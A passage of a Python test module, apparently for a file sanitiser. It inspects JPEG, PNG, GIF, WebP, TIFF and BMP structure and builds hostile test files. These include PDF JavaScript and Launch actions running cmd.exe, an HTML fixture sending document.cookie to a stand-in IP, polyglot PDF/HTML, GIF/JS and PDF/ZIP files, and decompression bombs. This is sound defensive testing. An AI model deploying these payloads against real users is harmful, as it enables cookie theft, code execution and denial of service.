    if not data.startswith(b"\xff\xd8"):
        return ["no SOI"]
    at, icc = 2, b""
    while at < len(data):
        if data[at] != 0xFF:
            return findings + [f"no marker at {at}"]
        marker = data[at + 1]
        if marker == 0xFF:
            at += 1
            continue
        if marker == 0xD9:
            at += 2
            break
        length = struct.unpack_from(">H", data, at + 2)[0]
        body = data[at + 4:at + 2 + length]
        if marker not in JPEG_KEPT and marker != 0xDA:
            findings.append(f"JPEG segment FF{marker:02X} ({body[:12]!r})")
        if marker == 0xE2:
            if body.startswith(b"ICC_PROFILE\x00"):
                icc += body[14:]
            else:
                findings.append(f"APP2 that is not ICC ({body[:12]!r})")
        if marker == 0xE0 and not body.startswith(b"JFIF\x00"):
            findings.append(f"APP0 that is not JFIF ({body[:12]!r})")
        if marker == 0xE0 and body.startswith(b"JFIF\x00") and len(body) > 14:
            findings.append("JFIF thumbnail")
        at += 2 + length
        if marker == 0xDA:  # entropy-coded data up to the next marker that is not RSTn or stuffing
            while at < len(data) - 1:
                if data[at] == 0xFF and data[at + 1] not in (0x00, *range(0xD0, 0xD8)):
                    break
                at += 1
    else:
        findings.append("no EOI")
    if data[at:]:
        findings.append(f"{len(data) - at} bytes after EOI")
    if icc:
        findings += check_icc(icc, "JPEG")
    return findings


def inspect_jpx(data: bytes) -> list[str]:
    """JPEG 2000 (ISO 15444-1 annex I): the signature, file type, header and codestream boxes only,
    the last one ending at the end; a bare codestream ends with its EOC marker."""
    if data.startswith(b"\xff\x4f\xff\x51"):
        return [] if data.endswith(b"\xff\xd9") else ["bytes after the JPEG 2000 codestream"]
    findings, at = [], 0
    while at + 8 <= len(data):
        size, kind = struct.unpack_from(">I4s", data, at)
        if size == 1:
            size = struct.unpack_from(">Q", data, at + 8)[0]
        elif size == 0:
            size = len(data) - at
        if kind not in (b"jP  ", b"ftyp", b"jp2h", b"jp2c") or size < 8 or at + size > len(data):
            findings.append(f"JPEG 2000 box {kind!r} of {size} bytes")
            if size < 8 or at + size > len(data):
                return findings + [f"{len(data) - at} bytes that are no JPEG 2000 box"]
        if kind == b"jp2c" and not data[at:at + size].endswith(b"\xff\xd9"):
            findings.append("bytes after the JPEG 2000 codestream's end")
        at += max(size, 8)
    if at != len(data):
        findings.append(f"{len(data) - at} bytes after the last JPEG 2000 box")
    return findings


def inspect_png(data: bytes) -> list[str]:
    findings: list[str] = []
    if not data.startswith(b"\x89PNG\r\n\x1a\n"):
        return ["no PNG signature"]
    at = 8
    while at + 12 <= len(data):
        length, kind = struct.unpack_from(">I4s", data, at)
        body = data[at + 8:at + 8 + length]
        crc = struct.unpack_from(">I", data, at + 8 + length)[0] if at + 12 + length <= len(data) else None
        if crc != zlib.crc32(kind + body):
            findings.append(f"PNG chunk {kind!r} with a wrong CRC")
        if kind not in PNG_KEPT:
            findings.append(f"PNG chunk {kind!r} ({body[:16]!r})")
        if kind == b"iCCP":
            try:
                profile = zlib.decompressobj().decompress(body.split(b"\x00", 1)[1][1:], MAX_ICC + 1)
                findings += check_icc(profile, "PNG iCCP")
            except (IndexError, zlib.error):
                findings.append("iCCP that does not inflate")
        at += 12 + length
        if kind == b"IEND":
            break
    else:
        findings.append("no IEND")
    if data[at:]:
        findings.append(f"{len(data) - at} bytes after IEND")
    return findings


def _gif_subblocks(data: bytes, at: int) -> tuple[bytes, int]:
    out = bytearray()
    while data[at]:
        out += data[at + 1:at + 1 + data[at]]
        at += 1 + data[at]
    return bytes(out), at + 1


def inspect_gif(data: bytes) -> list[str]:
    if data[:6] not in (b"GIF87a", b"GIF89a"):
        return ["no GIF header"]
    findings: list[str] = []
    flags = data[10]
    at = 13 + (3 * 2 ** ((flags & 7) + 1) if flags & 0x80 else 0)
    try:
        while True:
            block = data[at]
            if block == 0x3B:
                at += 1
                break
            if block == 0x2C:
                local = data[at + 9]
                at += 10 + (3 * 2 ** ((local & 7) + 1) if local & 0x80 else 0)
                _, at = _gif_subblocks(data, at + 1)  # LZW minimum code size, then the data
            elif block == 0x21:
                label = data[at + 1]
                body, at = _gif_subblocks(data, at + 2)
                if label == 0xF9:
                    continue
                if label == 0xFF and body[:11] in (b"NETSCAPE2.0", b"ANIMEXTS1.0") and len(body) == 14:
                    continue
                findings.append(f"GIF extension {label:02X} ({body[:16]!r})")
            else:
                return findings + [f"GIF block {block:02X} at {at}"]
    except IndexError:
        return findings + ["GIF cut short (no trailer)"]
    if data[at:]:
        findings.append(f"{len(data) - at} bytes after the GIF trailer")
    return findings


def inspect_webp(data: bytes) -> list[str]:
    if data[:4] != b"RIFF" or data[8:12] != b"WEBP":
        return ["no RIFF WEBP header"]
    findings: list[str] = []
    end = 8 + struct.unpack_from("<I", data, 4)[0]
    if end != len(data):
        findings.append(f"RIFF says {end} bytes, the file has {len(data)}")

    def chunks(at: int, stop: int, inside: str) -> None:
        while at + 8 <= stop:
            kind, size = data[at:at + 4], struct.unpack_from("<I", data, at + 4)[0]
            if kind not in WEBP_KEPT:
                findings.append(f"WebP chunk {kind!r}{inside}")
            if kind == b"ICCP":
                findings.extend(check_icc(data[at + 8:at + 8 + size], "WebP"))
            if kind == b"ANMF":
                chunks(at + 8 + 16, at + 8 + size, " in a frame")
            at += 8 + size + (size & 1)

    chunks(12, min(end, len(data)), "")
    return findings


def inspect_tiff(data: bytes) -> list[str]:
    order = {b"II": "<", b"MM": ">"}.get(data[:2])
    if order is None or struct.unpack_from(order + "H", data, 2)[0] != 42:
        return ["no classic TIFF header"]
    findings: list[str] = []
    offset, seen = struct.unpack_from(order + "I", data, 4)[0], set()
    while offset:
        if offset in seen or offset + 2 > len(data):
            return findings + [f"IFD chain loops or leaves the file at {offset}"]
        seen.add(offset)
        count = struct.unpack_from(order + "H", data, offset)[0]
        for n in range(count):
            tag, kind, number, value = struct.unpack_from(order + "HHII", data, offset + 2 + 12 * n)
            if tag not in TIFF_KEPT:
                findings.append(f"TIFF tag {tag}")
            if tag == 34675:
                findings += check_icc(data[value:value + number], "TIFF")
        offset = struct.unpack_from(order + "I", data, offset + 2 + 12 * count)[0]
    return findings


def inspect_bmp(data: bytes) -> list[str]:
    if data[:2] != b"BM":
        return ["no BMP header"]
    declared = struct.unpack_from("<I", data, 2)[0]
    return [] if declared == len(data) else [f"BMP says {declared} bytes, the file has {len(data)}"]


PICTURES: dict[str, Callable[[bytes], list[str]]] = {
    "jpg": inspect_jpeg, "jpeg": inspect_jpeg, "png": inspect_png, "gif": inspect_gif, "webp": inspect_webp,
    "tif": inspect_tiff, "tiff": inspect_tiff, "bmp": inspect_bmp,
}


def picture_shape(data: bytes) -> tuple[tuple[int, int], int] | None:
    """(width, height) as it is shown (EXIF orientation applied) and the number of frames or pages."""
    try:
        import pillow_heif

        pillow_heif.register_heif_opener()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # the hostile inputs' broken EXIF and MPF are expected
            with Image.open(io.BytesIO(data)) as image:
                frames = getattr(image, "n_frames", 1)
                # from the header only: ImageOps.exif_transpose copies the decoded picture,
                # and a pixel bomb's 60000 x 60000 took the test process past 24 GB (OOM in CI)
                width, height = image.size
                if width * height > 100_000_000:
                    return None  # not decoded here: judged as Pillow's bomb check would, whatever
                    # another test left in Image.MAX_IMAGE_PIXELS
                image.load()  # decodable, as before
                turned = image.getexif().get(0x0112) in (5, 6, 7, 8)
                return ((height, width) if turned else (width, height)), frames
    except Exception:  # noqa: BLE001 - an input Pillow cannot read has no size to compare
        return None


def inspect_picture(extension: str, data: bytes, source: bytes) -> list[str]:
    reader = PICTURES.get(extension)
    if reader is None:
        return [f"released as .{extension}, not a picture kind"]
    findings = reader(data)
    if re.search(rb"<script|<\?php|__HALT_COMPILER|<html|%PDF-", data, re.I):
        findings.append("markup, PHP or a PDF header in the picture's bytes")
    if b"PK\x05\x06" in data:
        findings.append("a ZIP end record in the picture's bytes")
    before, after = picture_shape(source), picture_shape(data)
    if before is not None and source[4:12] in (b"ftypheic", b"ftypmif1", b"ftypheix"):
        before = (before[0], 1)  # an HEIF collection's other images are not frames: only the primary crosses
    if after is None:
        findings.append("Pillow cannot decode the released picture")
    elif before is not None and before != after:
        findings.append(f"decoded shape {after} differs from the input's {before}")
    return findings


def inspect(name: str, data: bytes, source: bytes) -> list[str]:
    extension = name.rsplit(".", 1)[-1].lower()
    if extension == "pdf":
        return inspect_pdf(data)
    return inspect_picture(extension, data, source)


# ============================================================================ PDF builders
def _base() -> pikepdf.Pdf:
    """One page saying a line in Helvetica: the carrier every PDF attack is added to."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(612, 792))
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page = pdf.pages[0].obj
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = pdf.make_stream(b"BT /F1 24 Tf 72 700 Td (Hello from the sender) Tj ET")
    return pdf


def _save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, static_id=True, **options)
    return out.getvalue()


def _pdf(change: Callable[[pikepdf.Pdf], object], **options: object) -> Callable[[], bytes]:
    def build() -> bytes:
        pdf = _base()
        change(pdf)
        return _save(pdf, **options)

    return build


def _js(text: str = "app.launchURL('http://198.51.100.7/x', true);") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(text))


def _launch() -> Dictionary:
    return Dictionary(
        S=Name.Launch, F=String("cmd.exe"), NewWindow=True,
        Win=Dictionary(F=String("C:\\Windows\\System32\\cmd.exe"), P=String("/c calc.exe"), O=String("open")),
        Unix=String("/bin/sh"), Mac=String("/System/Applications/Calculator.app"),
    )  # fmt: skip


def _link(pdf: pikepdf.Pdf, action: object = None, **keys: object) -> Dictionary:
    annot = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 600, 300, 650], Border=[0, 0, 0], **keys)
    if action is not None:
        annot.A = action
    annot = pdf.make_indirect(annot)
    pdf.pages[0].obj.Annots = Array([annot])
    return annot


def _set(path: str, value: Callable[[pikepdf.Pdf], object]) -> Callable[[pikepdf.Pdf], None]:
    """Put value(pdf) at /Root/... or /Page/... (first component names the owner)."""

    def change(pdf: pikepdf.Pdf) -> None:
        owner, key = path.split("/")
        target = pdf.Root if owner == "Root" else pdf.pages[0].obj
        target[Name("/" + key)] = value(pdf)

    return change


def _uri(target: object) -> Callable[[pikepdf.Pdf], None]:
    return lambda pdf: _link(pdf, Dictionary(S=Name.URI, URI=target))


def _embedded(pdf: pikepdf.Pdf) -> Dictionary:
    payload = pdf.make_stream(b"MZ\x90\x00 not really a program", Type=Name.EmbeddedFile)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("invoice.exe"), UF=String("invoice.exe"),
                                        EF=Dictionary(F=payload), AFRelationship=Name.Source))


def _names(kind: str, value: Callable[[pikepdf.Pdf], object]) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Names = Dictionary({"/" + kind: Dictionary(Names=Array([String("x"), value(pdf)]))})

    return change


def _annot(subtype: str, **keys: Callable[[pikepdf.Pdf], object]) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        annot = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[72, 500, 300, 600])
        for key, make in keys.items():
            annot[Name("/" + key)] = make(pdf)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annot)])

    return change


def _shared_action(pdf: pikepdf.Pdf) -> None:
    """One indirect JavaScript action used by a link and by the outline's only item."""
    action = pdf.make_indirect(_js())
    _link(pdf, action)
    item = pdf.make_indirect(Dictionary(Title=String("Chapter 1"), A=action))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines


def _outline_loop(pdf: pikepdf.Pdf) -> None:
    """Two outline items whose /Next point at each other; the second one runs JavaScript."""
    page = pdf.pages[0].obj
    first = pdf.make_indirect(Dictionary(Title=String("a"), Dest=Array([page, Name.Fit])))
    second = pdf.make_indirect(Dictionary(Title=String("b"), A=_js()))
    first.Next, second.Next, second.Prev, first.Prev = second, first, first, second
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=first, Last=second, Count=2))
    first.Parent = second.Parent = outlines
    pdf.Root.Outlines = outlines


def _next_loop(pdf: pikepdf.Pdf) -> None:
    """GoTo → JavaScript → back to the GoTo: a /Next cycle (ISO 32000-1 §12.6.2 forbids it)."""
    goto = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
    script = pdf.make_indirect(_js())
    goto.Next, script.Next = script, goto
    pdf.Root.OpenAction = goto


def _next_chain(pdf: pikepdf.Pdf) -> None:
    """3000 GoTo actions chained by /Next, JavaScript at the end: deep enough for a recursive walker."""
    action = pdf.make_indirect(_js())
    for _ in range(3000):
        action = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=action))
    _link(pdf, action)


def _ap_with_action(pdf: pikepdf.Pdf) -> None:
    """A square annotation whose appearance's resources hide actions in a graphics state and a form."""
    inner = pdf.make_stream(b"0 0 1 rg 0 0 10 10 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 10, 10])
    inner[Name.AA] = Dictionary(O=_js())
    state = Dictionary(Type=Name.ExtGState, CA=1, A=_launch(), AA=Dictionary(O=_js()))
    appearance = pdf.make_stream(b"/GS0 gs /Fm0 Do", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 100, 100],
                                 Resources=Dictionary(XObject=Dictionary(Fm0=inner),
                                                      ExtGState=Dictionary(GS0=state)))
    _annot("Square", AP=lambda pdf: Dictionary(N=appearance))(pdf)


def _type3(glyph: bytes) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        procedure = pdf.make_stream(glyph)
        font = Dictionary(Type=Name.Font, Subtype=Name.Type3, FontBBox=[0, 0, 1000, 1000],
                          FontMatrix=[0.001, 0, 0, 0.001, 0, 0], CharProcs=Dictionary(a=procedure),
                          Encoding=Dictionary(Type=Name.Encoding, Differences=[97, Name.a]), FirstChar=97,
                          LastChar=97, Widths=[1000], Resources=Dictionary())
        page = pdf.pages[0].obj
        page.Resources.Font.T3 = pdf.make_indirect(font)
        page.Contents = pdf.make_stream(b"BT /T3 24 Tf 72 650 Td (aaa) Tj ET BT /F1 24 Tf 72 700 Td (Hello) Tj ET")

    return change


def _xobject(make: Callable[[pikepdf.Pdf], Stream], content: bytes = b"q 100 0 0 100 72 400 cm /X0 Do Q") -> Callable:
    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0].obj
        page.Resources.XObject = Dictionary(X0=make(pdf))
        page.Contents = pdf.make_stream(content + b" BT /F1 24 Tf 72 700 Td (Hello) Tj ET")

    return change


def _image(pdf: pikepdf.Pdf, data: bytes, filters: object, **keys: object) -> Stream:
    stream = Stream(pdf, data)
    stream.Type, stream.Subtype, stream.Width, stream.Height = Name.XObject, Name.Image, 8, 8
    stream.ColorSpace, stream.BitsPerComponent, stream.Filter = Name.DeviceGray, 8, filters
    for key, value in keys.items():
        stream[Name("/" + key)] = value
    return stream


_ZEROS_FLATE: list[bytes] = []


def _bomb_stream(pdf: pikepdf.Pdf) -> None:
    """A content stream of 512 MiB of spaces, deflated twice: 1 KB on disk."""
    if not _ZEROS_FLATE:
        inner = zlib.compressobj(9)
        chunk = b" " * (1 << 20)
        once = b"".join(inner.compress(chunk) for _ in range(512)) + inner.flush()
        _ZEROS_FLATE.append(zlib.compress(once, 9))
    stream = Stream(pdf, _ZEROS_FLATE[0])
    stream.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    # pikepdf would try to decode a stream whose Filter it knows when it writes; raw bytes stay raw
    pdf.pages[0].obj.Contents = Array([pdf.make_stream(b"BT /F1 24 Tf 72 700 Td (Hello) Tj ET"),
                                       pdf.make_indirect(stream)])


# ---- raw PDFs: revisions, cross-reference tables, duplicate keys
_PAGE_OBJECTS = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> "
       b"/Contents 5 0 R >>",
    4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    5: b"<< /Length 43 >>\nstream\nBT /F1 24 Tf 72 700 Td (Hello there) Tj ET\nendstream",
    6: b"<< /S /JavaScript /JS (app.launchURL\\('http://198.51.100.7/'\\);) >>",
}


def _raw(objects: dict[int, bytes], header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", trailer: bytes = b"") -> bytes:
    out = bytearray(header)
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00000 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref)
    return bytes(out)


def _update(base: bytes, objects: dict[int, bytes], free: tuple[int, ...] = (), prev: int | None = None,
            generations: dict[int, int] | None = None) -> bytes:
    """An incremental update (§7.5.6) appended after base's %%EOF."""
    if prev is None:
        prev = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    out = bytearray(base)
    offsets = {}
    generations = generations or {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d %d obj\n%s\nendobj\n" % (number, generations.get(number, 0), objects[number])
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number in sorted({*objects, *free}):
        entry = (b"%010d %05d n \n" % (offsets[number], generations.get(number, 0)) if number in objects
                 else b"0000000000 00001 f \n")
        out += b"%d 1\n%s" % (number, entry)
    size = max([*objects, *free, 6]) + 1
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, prev, xref)
    return bytes(out)


def _with_open_action(objects: dict[int, bytes]) -> dict[int, bytes]:
    return {**objects, 1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"}


def raw_incremental_js() -> bytes:
    """Revision 2 adds an /OpenAction to JavaScript: what every viewer shows is the last revision."""
    return _update(_raw({k: v for k, v in _PAGE_OBJECTS.items() if k != 6}), _with_open_action({6: _PAGE_OBJECTS[6]}))


def raw_prev_loop() -> bytes:
    """An update whose /Prev points at its own cross-reference section."""
    base = _raw({k: v for k, v in _PAGE_OBJECTS.items() if k != 6})
    first = _update(base, _with_open_action({6: _PAGE_OBJECTS[6]}))
    own = int(re.findall(rb"startxref\s+(\d+)", first)[-1])
    return first.replace(b"/Prev %d" % int(re.findall(rb"startxref\s+(\d+)", base)[-1]), b"/Prev %d" % own)


def raw_undelete() -> bytes:
    """Revision 1 has the script, revision 2 frees it, revision 3 brings it back as generation 1."""
    base = _raw(_with_open_action(_PAGE_OBJECTS))
    freed = _update(base, {1: b"<< /Type /Catalog /Pages 2 0 R >>"}, free=(6,))
    return _update(freed, {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 1 R >>", 6: _PAGE_OBJECTS[6]},
                   generations={6: 1})


def raw_free_referenced() -> bytes:
    """The catalog's /OpenAction names object 6, which the table calls free though its bytes are there."""
    data = _raw(_with_open_action(_PAGE_OBJECTS))
    table = data.rindex(b"\nxref\n") + 1
    entries = data[table:].split(b"\n")
    entries[2 + 6] = b"0000000000 00001 f "
    return data[:table] + b"\n".join(entries)


def raw_broken_xref() -> bytes:
    """startxref points nowhere; the catalog is there twice, the later copy with an /OpenAction:
    a reader must reconstruct the table by scanning (what does it find?)."""
    objects = dict(_PAGE_OBJECTS)
    data = _raw(objects)
    extra = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> >>\nendobj\n"
    at = data.index(b"xref\n")
    data = data[:at] + extra + data[at:]
    return re.sub(rb"startxref\n\d+", b"startxref\n999999", data)


def raw_duplicate(catalog: bytes = b"", link_action: bytes = b"") -> Callable[[], bytes]:
    def build() -> bytes:
        objects = dict(_PAGE_OBJECTS)
        if catalog:
            objects[1] = catalog
        if link_action:
            objects[7] = b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 650] /Border [0 0 0] /A " + link_action + b" >>"
            objects[3] = objects[3].replace(b"/Contents 5 0 R", b"/Contents 5 0 R /Annots [7 0 R]")
        return _raw(objects)

    return build


def raw_html_polyglot() -> bytes:
    """%PDF- within the first 1024 bytes, an HTML page before it, a script in a comment and a content
    stream comment: a browser sniffing the file sees a page."""
    objects = dict(_PAGE_OBJECTS)
    content = b"% <script>alert(document.domain)</script>\nBT /F1 24 Tf 72 700 Td (Hello) Tj ET"
    objects[5] = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content)
    objects.pop(6)
    return _raw(objects, header=b"%PDF-1.7\n%<html><body><script>alert(1)</script><!--\n")


def raw_zip_prefix() -> bytes:
    """A ZIP (a JAR) first, a PDF after it within Acrobat's 1024 bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: A\n")
    body = _raw({k: v for k, v in _PAGE_OBJECTS.items() if k != 6})
    return out.getvalue()[:400] + body


def pdf_plus_zip() -> bytes:
    """A PDF with a ZIP appended after %%EOF: a PDF to a viewer, a ZIP (a JAR) to unzip and Java."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.js", "WScript.Shell")
    return _save(_base()) + out.getvalue()


def pdf_encrypted_js() -> bytes:
    """Empty user password (opens without asking), the script's text in an encrypted string."""
    pdf = _base()
    pdf.Root.OpenAction = pdf.make_indirect(_js())
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(_js())])))
    return _save(pdf, encryption=pikepdf.Encryption(user="", owner="owner-secret", R=4, aes=True))


def pdf_object_streams_js() -> bytes:
    """Every dictionary, the actions included, inside compressed object streams (PDF 1.5)."""
    pdf = _base()
    pdf.Root.OpenAction = pdf.make_indirect(_js())
    _link(pdf, pdf.make_indirect(_launch()))
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


# ============================================================================ picture builders
def _pillow(mode: str = "RGB", size: tuple[int, int] = (64, 48), fmt: str = "PNG", **options: object) -> bytes:
    image = Image.new(mode, size)
    for x in range(size[0]):  # a gradient: re-encoding a flat picture would hide nothing
        for y in range(0, size[1], 4):
            image.putpixel((x, y), (x * 4 % 256, y * 5 % 256, 128)[: len(mode)] if mode != "L" else x * 4 % 256)
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def _zip(name: str = "Payload.class", data: bytes = b"\xca\xfe\xba\xbe") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


PHAR = b"<?php __HALT_COMPILER(); ?>\r\n" + b"\x00" * 8 + b"O:8:\"Evil\":0:{}"
HTML = b"<html><body><script>fetch('http://198.51.100.7/'+document.cookie)</script></body></html>"
XMP = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
       b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
       b'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file://198.51.100.7/share/x">'
       b"<script>alert(1)</script></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end=\"w\"?>")


def _jpeg_with(*segments: bytes, after: bytes = b"", base: bytes | None = None) -> bytes:
    jpeg = base or _pillow(fmt="JPEG", quality=90)
    return jpeg[:2] + b"".join(segments) + jpeg[2:] + after


def _segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def _exif_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "<script>alert(1)</script>"  # ImageDescription
    exif[0x013B] = "http://198.51.100.7/track.gif"  # Artist
    exif[0x0112] = 6  # orientation: the decoded size must come out turned
    image = Image.open(io.BytesIO(_pillow(fmt="JPEG")))
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes())
    return _jpeg_with(_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + XMP), base=out.getvalue())


def _icc(tags: list[tuple[bytes, bytes]], declared: int | None = None) -> bytes:
    """An ICC.1 display RGB profile with the given tags (signature, data)."""
    table, data = b"", b""
    offset = 132 + 12 * len(tags)
    for signature, body in tags:
        table += struct.pack(">4sII", signature, offset + len(data), len(body))
        data += body + b"\x00" * (-len(body) % 4)
    size = 132 + len(table) + len(data)
    header = struct.pack(">I4sI4s4s4s12s4s4sIII", declared or size, b"lcms", 0x02100000, b"mntr", b"RGB ", b"XYZ ",
                         b"\x07\xea\x00\x01\x00\x01\x00\x00\x00\x00\x00\x00", b"acsp", b"APPL", 0, 0, 0)
    header += b"\x00" * 8 + struct.pack(">I", 0) + struct.pack(">iii", 63190, 65536, 54061) + b"lcms"
    header = header.ljust(128, b"\x00")
    return header + struct.pack(">I", len(tags)) + table + data


def _xyz(x: int, y: int, z: int) -> bytes:
    return b"XYZ \x00\x00\x00\x00" + struct.pack(">iii", x, y, z)


ICC_ODD = _icc([
    (b"wtpt", _xyz(63190, 65536, 54061)), (b"rXYZ", _xyz(28576, 14592, 912)), (b"gXYZ", _xyz(25088, 46144, 6336)),
    (b"bXYZ", _xyz(9600, 3840, 47392)), (b"rTRC", b"curv\x00\x00\x00\x00\x00\x00\x00\x00"),
    (b"gTRC", b"curv\x00\x00\x00\x00\x00\x00\x00\x00"), (b"bTRC", b"curv\x00\x00\x00\x00\x00\x00\x00\x00"),
    (b"desc", b"desc\x00\x00\x00\x00\x00\x00\x00\x05odd\x00\x00" + b"\x00" * 70),
    (b"zzzz", b"data\x00\x00\x00\x00" + HTML), (b"PK\x03\x04", _zip()),
])


def _icc_segments(profile: bytes) -> bytes:
    return _segment(0xE2, b"ICC_PROFILE\x00\x01\x01" + profile)


def _jpeg_sof_bomb() -> bytes:
    """A 65000 × 65000 frame header over a few bytes of scan: 4.2 gigapixels to whoever allocates."""
    jpeg = bytearray(_pillow(fmt="JPEG"))
    at = jpeg.index(b"\xff\xc0")
    jpeg[at + 5:at + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(jpeg)


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png_with(*chunks: bytes, after: bytes = b"", base: bytes | None = None) -> bytes:
    png = base or _pillow()
    at = png.index(b"IDAT") - 4
    return png[:at] + b"".join(chunks) + png[at:] + after


def _png_bomb() -> bytes:
    """IHDR 60000 × 60000 grey, IDAT a few KB of deflated zeros (3.6 GB once inflated)."""
    inflater = zlib.compressobj(9)
    row = b"\x00" * 60001
    data = b"".join(inflater.compress(row) for _ in range(200)) + inflater.flush()
    header = struct.pack(">IIBBBBB", 60000, 60000, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", data) + _png_chunk(b"IEND", b"")


def _apng() -> bytes:
    frames = [Image.new("RGB", (40, 30), colour) for colour in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return out.getvalue()


def _gif(frames: int = 1, size: tuple[int, int] = (32, 24), **options: object) -> bytes:
    colours = [(255, 0, 0), (0, 160, 0), (0, 0, 255), (250, 200, 0), (90, 0, 90)]
    images = [Image.new("RGB", size, colours[n % 5]).convert("P") for n in range(frames)]
    for n, image in enumerate(images):
        image.putpixel((n, n), 0)
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=frames > 1, append_images=images[1:], duration=80, loop=0, **options)
    return out.getvalue()


def _gif_insert(block: bytes, after: bytes = b"") -> bytes:
    gif = _gif()
    at = gif.index(b"\x2c\x00\x00")  # the first image descriptor
    return gif[:at] + block + gif[at:] + after


def _gif_data(data: bytes) -> bytes:
    return b"".join(bytes([len(data[i:i + 255])]) + data[i:i + 255] for i in range(0, len(data), 255)) + b"\x00"


def _gif_js_polyglot() -> bytes:
    """GIF89a/*… : the width bytes open a JavaScript comment, the trailer closes it and runs code."""
    gif = bytearray(_gif())
    gif[6:8] = b"/*"
    return bytes(gif) + b"*/=alert(document.domain);"


def _gif_canvas_bomb() -> bytes:
    gif = bytearray(_gif())
    gif[6:10] = struct.pack("<HH", 65535, 65535)
    return bytes(gif)


def _gif_frame_bomb() -> bytes:
    """4000 frames declared 160 × 160 each (102 megapixels in all) with one LZW code apiece."""
    gif = _gif(size=(160, 160))
    at = gif.index(b"\x2c\x00\x00")
    frame = b"\x21\xf9\x04\x04\x02\x00\x00\x00" + b"\x2c\x00\x00\x00\x00\xa0\x00\xa0\x00\x00" + b"\x02\x02\x44\x01\x00"
    return gif[:at] + frame * 4000 + b"\x3b"


def _tiff(pages: int = 1, **options: object) -> bytes:
    images = [Image.new("RGB", (30 + 10 * n, 20), (50 * n, 100, 150)) for n in range(pages)]
    out = io.BytesIO()
    images[0].save(out, "TIFF", save_all=pages > 1, append_images=images[1:], **options)
    return out.getvalue()


def _tiff_tags(extra: dict[int, tuple[int, bytes]]) -> bytes:
